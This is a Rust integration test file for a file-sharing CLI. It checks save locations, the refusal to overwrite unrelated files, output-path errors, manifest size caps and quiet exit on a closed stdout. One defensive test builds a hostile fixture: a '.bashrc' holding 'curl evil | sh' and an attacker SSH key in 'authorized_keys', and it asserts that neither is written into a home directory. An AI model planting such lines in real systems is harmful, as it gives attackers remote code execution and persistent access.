//! The user's files are sacred: where `share fetch` saves (`./NAME`, `-o PATH` exactly,
//! `-d DIR` as `DIR/NAME`), existing files it did not write are never resized or
//! overwritten unless they already hold the torrent's data or `--overwrite` says so, output
//! paths that cannot work are bad input, manifests are read with a hard cap whatever the file
//! is, and a closed stdout ends a command quietly.

mod common;

use std::io::{Read, Write};
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::proc::{seed, Proc};
use common::{fetch_refused, pattern, share, share_cmd};

/// `share fetch MANIFEST ARGS --port 0 --json` run from `cwd`.
fn fetch_from(cwd: &Path, manifest: &str, args: &[&str]) -> Proc {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_share"));
    cmd.current_dir(cwd)
        .args(["fetch", manifest])
        .args(args)
        .args(["--port", "0", "--json", "--no-seed"]);
    Proc::spawn(cmd)
}

fn create(src: &Path, manifest: &Path) {
    let r = share(&[
        "create",
        src.to_str().unwrap(),
        "-o",
        manifest.to_str().unwrap(),
        "--tracker",
        "http://127.0.0.1:1/announce",
    ]);
    assert!(r.status.success(), "{}", String::from_utf8_lossy(&r.stderr));
}

#[test]
fn fetch_saves_as_name_in_the_current_directory_as_o_exactly_or_inside_d() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("movie.bin");
    let data = pattern(1_500_000, 21);
    std::fs::write(&file, &data).unwrap();
    let album = dir.path().join("album");
    std::fs::create_dir_all(album.join("cd1")).unwrap();
    std::fs::write(album.join("cd1/a.flac"), pattern(300_001, 22)).unwrap();
    std::fs::write(album.join("cover.jpg"), pattern(77_777, 23)).unwrap();
    let (_s1, movie) = seed(&file, &[]);
    let (_s2, albums) = seed(&album, &["--piece-size", "16K"]);

    let here = dir.path().join("here");
    let real = dir.path().join("real-downloads");
    std::fs::create_dir_all(&here).unwrap();
    std::fs::create_dir_all(&real).unwrap();
    // A -d directory that is a link (a Downloads folder on another disk) is followed.
    symlink(&real, here.join("downloads")).unwrap();
    for (args, single, multi) in [
        (vec![], here.join("movie.bin"), here.join("album")),
        (
            vec!["-d", "downloads"],
            real.join("movie.bin"),
            real.join("album"),
        ),
        (
            vec!["-d", "new/dir"],
            here.join("new/dir/movie.bin"),
            here.join("new/dir/album"),
        ),
    ] {
        for (manifest, want) in [(&movie, &single), (&albums, &multi)] {
            let mut f = fetch_from(&here, manifest, &args);
            f.wait_event(60, "complete");
            assert_eq!(f.exit_code(30), Some(0), "{args:?}: {}", f.stderr());
            assert!(want.exists(), "{args:?} saved to {}", want.display());
        }
        assert_eq!(std::fs::read(&single).unwrap(), data, "{args:?}");
        assert_eq!(
            std::fs::read(multi.join("cover.jpg")).unwrap(),
            std::fs::read(album.join("cover.jpg")).unwrap()
        );
    }
    // -o names the file, or the torrent's own directory, exactly.
    let mut f = fetch_from(&here, &movie, &["-o", "film.bin"]);
    f.wait_event(60, "complete");
    assert_eq!(f.exit_code(30), Some(0), "{}", f.stderr());
    assert_eq!(std::fs::read(here.join("film.bin")).unwrap(), data);
    let mut f = fetch_from(&here, &albums, &["-o", "mine"]);
    f.wait_event(60, "complete");
    assert_eq!(f.exit_code(30), Some(0), "{}", f.stderr());
    assert!(here.join("mine/cd1/a.flac").is_file() && !here.join("mine/album").exists());
}

/// Size, and the bytes' digest, of a file.
fn fingerprint(path: &Path) -> (u64, [u8; 20]) {
    let bytes = std::fs::read(path).unwrap();
    (bytes.len() as u64, share_proto::hash::sha1(&bytes))
}

#[test]
fn existing_files_share_did_not_write_are_refused_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("payload.bin");
    std::fs::write(&src, pattern(3_000_000, 31)).unwrap();
    let m = dir.path().join("payload.torrent");
    create(&src, &m);
    let home = dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    // An unrelated file of the same size, and a small one the torrent would grow.
    let precious = home.join("precious.bin");
    std::fs::write(&precious, pattern(3_000_000, 99)).unwrap();
    let thesis = home.join("thesis.txt");
    std::fs::write(&thesis, b"ten bytes!").unwrap();
    for (target, why) in [
        (&precious, "piece 0 fails its hash check"),
        (&thesis, "it holds 10 bytes where the manifest's file has 3000000"),
    ] {
        let before = fingerprint(target);
        let (code, err) = fetch_refused(&home, &m, &["-o", target.file_name().unwrap().to_str().unwrap()]);
        assert_eq!(code, Some(2), "{err}");
        let name = target.file_name().unwrap().to_str().unwrap();
        assert!(
            err.starts_with(&format!(
                "share: refusing to use {name}: it exists and share did not create it"
            )),
            "{err}"
        );
        assert!(err.contains(why) && err.contains("--overwrite"), "{err}");
        assert_eq!(err.trim_end().lines().count(), 1, "{err}");
        assert_eq!(fingerprint(target), before, "not a byte changed");
    }

    // A directory torrent aimed at a home directory: neither its .bashrc nor a new
    // .ssh/authorized_keys is written.
    let evil = dir.path().join("evil");
    std::fs::create_dir_all(evil.join(".ssh")).unwrap();
    std::fs::write(evil.join(".bashrc"), b"curl evil | sh\n").unwrap();
    std::fs::write(evil.join(".ssh/authorized_keys"), b"ssh-ed25519 AAAA evil\n").unwrap();
    let em = dir.path().join("evil.torrent");
    create(&evil, &em);
    let (code, err) = fetch_refused(dir.path(), &em, &["-o", home.to_str().unwrap()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("it is a directory share did not create"), "{err}");
    std::fs::write(home.join(".bashrc"), b"my prompt\n").unwrap();
    let (code, err) = fetch_refused(dir.path(), &em, &["-o", home.to_str().unwrap()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(!home.join(".ssh/authorized_keys").exists(), "nothing planted");
    assert_eq!(std::fs::read(home.join(".bashrc")).unwrap(), b"my prompt\n");
}

#[test]
fn a_complete_copy_share_did_not_write_is_used_without_writing_a_byte() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("data.bin");
    let data = pattern(2_000_000, 41);
    std::fs::write(&src, &data).unwrap();
    let m = dir.path().join("data.torrent");
    create(&src, &m);
    let copy = dir.path().join("copy.bin");
    std::fs::copy(&src, &copy).unwrap();
    let mtime = std::fs::metadata(&copy).unwrap().modified().unwrap();
    // No peer is reachable: the data on disk is all it has.
    let mut f = fetch_from(
        dir.path(),
        m.to_str().unwrap(),
        &["-o", "copy.bin", "--peer", "127.0.0.1:1"],
    );
    f.wait_event(60, "complete");
    assert_eq!(f.exit_code(30), Some(0), "{}", f.stderr());
    assert_eq!(std::fs::read(&copy).unwrap(), data);
    assert_eq!(
        std::fs::metadata(&copy).unwrap().modified().unwrap(),
        mtime,
        "never written"
    );
}

#[test]
fn overwrite_lets_share_replace_a_file_it_did_not_write() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("f.bin");
    let data = pattern(1_000_000, 51);
    std::fs::write(&file, &data).unwrap();
    let (_seeder, manifest) = seed(&file, &[]);
    let old = dir.path().join("old.bin");
    std::fs::write(&old, b"an old draft").unwrap();
    let (code, _) = fetch_refused(dir.path(), Path::new(&manifest), &["-o", "old.bin"]);
    assert_eq!(code, Some(2));
    let mut f = fetch_from(dir.path(), &manifest, &["-o", "old.bin", "--overwrite"]);
    f.wait_event(60, "complete");
    assert_eq!(f.exit_code(30), Some(0), "{}", f.stderr());
    assert_eq!(std::fs::read(&old).unwrap(), data);
}

#[test]
fn output_paths_that_cannot_work_are_bad_input() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("f.bin");
    std::fs::write(&src, b"some data").unwrap();
    let m = dir.path().join("f.torrent");
    create(&src, &m);
    std::fs::write(dir.path().join("file"), b"x").unwrap();
    for (args, want) in [
        (
            vec!["-o", "file/x"],
            "share: cannot save to file: it is not a directory",
        ),
        (
            vec!["-d", "file"],
            "share: cannot save to file: it is not a directory",
        ),
        (
            vec!["-o", ".."],
            "share: -o .. does not end in a name to save f.bin as",
        ),
    ] {
        let (code, err) = fetch_refused(dir.path(), &m, &args);
        assert_eq!(code, Some(2), "{args:?}: {err}");
        assert!(err.starts_with(want), "{args:?}: {err}");
    }
    // A directory torrent where a file is.
    let album = dir.path().join("album");
    std::fs::create_dir_all(&album).unwrap();
    std::fs::write(album.join("a"), b"a").unwrap();
    let am = dir.path().join("album.torrent");
    create(&album, &am);
    let (code, err) = fetch_refused(dir.path(), &am, &["-o", "file"]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.starts_with("share: cannot save to file: it is not a directory"),
        "{err}"
    );
    // seed and create: a manifest path in a missing directory, or that is a directory.
    for cmd in ["create", "seed"] {
        for out in ["missing/x.torrent", "file/x.torrent", "album"] {
            let r = share_cmd()
                .current_dir(dir.path())
                .args([
                    cmd,
                    "f.bin",
                    "-o",
                    out,
                    "--force",
                    "--tracker",
                    "http://127.0.0.1:1/announce",
                ])
                .output()
                .unwrap();
            let err = String::from_utf8_lossy(&r.stderr);
            assert_eq!(r.status.code(), Some(2), "{cmd} -o {out}: {err}");
            assert!(err.contains(out), "{cmd} -o {out}: {err}");
        }
    }
    assert_eq!(std::fs::read(dir.path().join("file")).unwrap(), b"x");
}

/// `share info PATH`: exit code and stderr, and how long it took.
fn info(path: &Path) -> (Option<i32>, String, Duration) {
    let start = Instant::now();
    let r = share(&["info", path.to_str().unwrap()]);
    (
        r.status.code(),
        String::from_utf8_lossy(&r.stderr).into_owned(),
        start.elapsed(),
    )
}

#[test]
fn manifests_are_read_up_to_the_cap_whatever_the_file_is() {
    let cap = "more than the 67108864 bytes (64 MiB) a manifest may have";
    let (code, err, took) = info(Path::new("/dev/zero"));
    assert_eq!(code, Some(2), "{err}");
    assert_eq!(
        err.trim_end(),
        format!("share: /dev/zero is not a manifest: it holds {cap}")
    );
    eprintln!("share info /dev/zero refused in {took:?}");

    // A FIFO whose writer never stops (until the reader goes away).
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            let mut w = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
            let chunk = vec![b'x'; 1 << 16];
            let mut sent: u64 = 0;
            while w.write_all(&chunk).is_ok() {
                sent += chunk.len() as u64;
                assert!(sent < 1 << 31, "the reader kept reading past 2 GiB");
            }
            sent
        })
    };
    let (code, err, _) = info(&fifo);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains(cap), "{err}");
    let sent = writer.join().unwrap();
    assert!(
        sent <= (64 << 20) + (4 << 20),
        "read about the cap, not more: {sent}"
    );

    // /dev/stdin carrying a valid manifest still works.
    let good = std::fs::read(common::fixtures().join("mktorrent-single.torrent")).unwrap();
    let mut child = share_cmd()
        .args(["info", "/dev/stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&good).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("info hash:"));
}

/// A multi-file manifest with `n` one-byte files: `share info` prints a line per file.
fn wide_manifest(n: usize) -> Vec<u8> {
    let mut files = String::new();
    for i in 0..n {
        let name = format!("file-{i:06}.txt");
        files.push_str(&format!("d6:lengthi1e4:pathl{}:{name}ee", name.len()));
    }
    let pieces = n.div_ceil(16_384);
    format!(
        "d4:infod5:filesl{files}e4:name4:wide12:piece lengthi16384e6:pieces{}:{}ee",
        pieces * 20,
        "a".repeat(pieces * 20)
    )
    .into_bytes()
}

#[test]
fn a_closed_stdout_ends_the_command_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let m = dir.path().join("wide.torrent");
    // Far more output than a pipe holds, so `share` is still writing when the reader leaves.
    std::fs::write(&m, wide_manifest(20_000)).unwrap();
    for json in [false, true] {
        let mut args = vec!["info", m.to_str().unwrap()];
        if json {
            args.push("--json");
        }
        let mut child = share_cmd()
            .args(&args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = [0u8; 100];
        child.stdout.take().unwrap().read_exact(&mut first).unwrap();
        // The reader is gone now, like `head -1` after its line.
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(141), "json {json}: {err}");
        assert!(err.is_empty(), "quietly: {err}");
    }
}

#[test]
fn a_closed_stdout_ends_a_running_fetch_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("f.bin");
    std::fs::write(&file, vec![7u8; 100_000]).unwrap();
    let m = dir.path().join("f.torrent");
    let made = share_cmd()
        .arg("create")
        .arg(&file)
        .arg("-o")
        .arg(&m)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    // Nobody to fetch from: the fetch runs, printing a progress event every tick.
    let mut child = share_cmd()
        .arg("fetch")
        .arg(&m)
        .arg("-d")
        .arg(dir.path().join("out"))
        .args(["--peer", "127.0.0.1:1", "--port", "0", "--json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 1];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // The reader is gone now, like `head -1` after its line.
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("share fetch --json kept running after its stdout closed");
        }
        std::thread::sleep(Duration::from_millis(20)); // polling, with a deadline
    };
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    assert_eq!(status.code(), Some(141), "{err}");
    assert!(err.is_empty(), "quietly: {err}");
}
